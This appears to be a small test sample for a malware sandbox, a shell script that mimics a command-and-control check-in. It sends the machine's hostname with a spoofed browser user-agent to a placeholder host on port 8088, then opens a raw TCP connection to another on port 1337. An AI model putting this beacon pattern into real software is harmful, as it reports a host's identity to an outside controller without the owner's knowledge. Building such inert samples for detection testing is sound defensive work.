#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: checks in with its controller over HTTP on an uncommon port, then over a
# raw TCP port (T1571).
# Inert: the names are answered only by the fake resolver; the fake network replies.
id=$(hostname 2>/dev/null || echo host)
curl -s -m 5 -A 'Mozilla/5.0 (X11; Linux x86_64)' "http://update.example.test:8088/api/v1/checkin?id=$id" > /dev/null
python3 -c 'import socket;s=socket.create_connection(("relay.example.test",1337),timeout=3);s.sendall(b"HELLO host=sandbox\n");s.close()'
exit 0
